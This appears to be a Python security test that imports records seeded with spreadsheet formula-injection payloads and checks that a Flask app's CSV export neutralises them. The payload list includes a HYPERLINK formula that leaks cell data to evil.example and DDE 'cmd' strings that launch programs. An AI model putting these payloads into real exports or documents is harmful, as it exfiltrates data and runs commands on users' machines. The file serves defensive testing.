"""Spreadsheet formula injection: experts and projects whose text starts with = + - @, a tab or
a carriage return are imported, then exported with `flask export … .csv`. Every cell of the CSV
must be neutralised (OWASP: a leading apostrophe), and the JSON Lines export must stay exact."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from bench.security.findings import Finding
from bench.security.server import Stack

DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
INSTITUTION = "Ministère de la Santé et de la Protection sociale"  # a demo institution


def _experts() -> list[dict]:
    return [
        {
            "ref": f"CSV-E-{n}",
            "full_name": payload,
            "email": f"csv-{n}@example.org",
            "residence": {"country": "FR", "city": payload},
            "languages": [{"code": "fr", "level": "C2"}],
            "skills": [{"name": payload, "level": 3}],
            "sectors": ["health"],
            "modes": ["remote"],
            "hours_per_month": 5,
            "headline": payload,
            "bio": payload,
            "consent_matching": True,
        }
        for n, payload in enumerate(PAYLOADS)
    ]


def _projects() -> list[dict]:
    return [
        {
            "ref": f"CSV-P-{n}",
            "institution": INSTITUTION,
            "title": payload,
            "description": payload,
            "sector": "health",
            "skills": [{"name": payload, "level": 2, "required": True}],
            "languages": ["fr"],
            "mode": "remote",
            "location": payload,
            "hours_per_month": 5,
            "seats": 1,
            "starts_on": "2027-01-15",
            "duration_months": 6,
        }
        for n, payload in enumerate(PAYLOADS)
    ]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _unsafe_cells(path: Path) -> list[tuple[str, str]]:
    """(column, cell) for every cell a spreadsheet would run as a formula."""
    with path.open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    return [
        (column, cell)
        for row in rows
        for column, cell in row.items()
        if cell and cell.startswith(DANGEROUS_START) and not _is_number(cell)
    ]


def run(stack: Stack, env: dict, log) -> list[Finding]:
    folder = stack.workdir / "csv"
    folder.mkdir(exist_ok=True)
    findings = []
    for kind, records in (("experts", _experts()), ("projects", _projects())):
        source = folder / f"hostile-{kind}.jsonl"
        source.write_text(
            "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8"
        )
        imported = stack.flask("import", kind, str(source), env=env)
        log(f"  flask import {kind}: exit {imported.returncode}")
        for fmt in ("csv", "jsonl"):
            done = stack.flask("export", kind, str(folder / f"export-{kind}.{fmt}"), env=env)
            if done.returncode != 0:
                findings.append(
                    Finding(
                        "csv",
                        f"flask export {kind} .{fmt}",
                        "-",
                        f"export failed: {done.stderr.strip()[-200:]}",
                        "high",
                    )
                )
        exported = folder / f"export-{kind}.csv"
        if not exported.exists():
            continue
        unsafe = _unsafe_cells(exported)
        for column in sorted({column for column, _ in unsafe}):
            starts = sorted({repr(cell[0]) for c, cell in unsafe if c == column})
            findings.append(
                Finding(
                    "csv",
                    f"flask export {kind} .csv",
                    "-",
                    f"column {column}: cells start with {', '.join(starts)} "
                    "and would run as spreadsheet formulas",
                    "medium",
                )
            )
        findings += _jsonl_exact(folder / f"export-{kind}.jsonl", records, kind)
    return findings


def _jsonl_exact(path: Path, records: list[dict], kind: str) -> list[Finding]:
    """The JSON Lines export keeps the imported text as it was (no apostrophe added)."""
    if not path.exists():
        return []
    exported = {}
    for line in path.read_text(encoding="utf-8").splitlines():
        record = json.loads(line)
        exported[record.get("ref")] = record
    field = "full_name" if kind == "experts" else "title"
    missing, altered = [], []
    for record in records:
        value = record[field]
        if value[0] in "\t\r":
            continue  # control characters may be dropped on import, by design
        got = exported.get(record["ref"], {}).get(field)
        if got is None:
            missing.append(record["ref"])
        elif got != value:
            altered.append(f"{value[:12]!r} became {got[:14]!r}")
    findings = []
    if missing:
        findings.append(
            Finding(
                "csv",
                f"flask import {kind}",
                "-",
                f"{len(missing)} hostile records were not imported "
                f"({', '.join(missing)}): their export was not checked",
                "low",
            )
        )
    if altered:
        findings.append(
            Finding(
                "csv",
                f"flask export {kind} .jsonl",
                "-",
                "JSON Lines export altered: " + "; ".join(altered[:3]),
                "medium",
            )
        )
    return findings
